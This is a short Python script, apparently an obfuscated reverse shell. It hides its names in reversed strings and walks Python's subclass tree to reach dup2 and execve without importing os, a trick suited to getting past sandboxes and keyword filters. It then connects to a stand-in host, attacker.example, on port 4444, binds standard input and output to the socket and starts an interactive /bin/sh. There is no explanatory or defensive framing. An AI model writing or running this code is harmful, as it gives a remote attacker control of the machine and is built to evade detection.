import socket


def locate(*names):
    for cls in object.__subclasses__():
        init = cls.__dict__.get("__init__")
        scope = getattr(init, "__globals__", None)
        if scope and all(n in scope for n in names):
            return scope
    return None


def main():
    a, b = '2pud'[::-1], 'vcexe'[::-1]
    scope = locate(a, b)
    conn = socket.create_connection(('elpmaxe.rekcatta'[::-1], 4444))
    for fd in (0, 1, 2):
        scope[a](conn.fileno(), fd)
    target = 'hs/nib/'[::-1]
    scope[b](target, [target, "-i"])


if __name__ == "__main__":
    main()
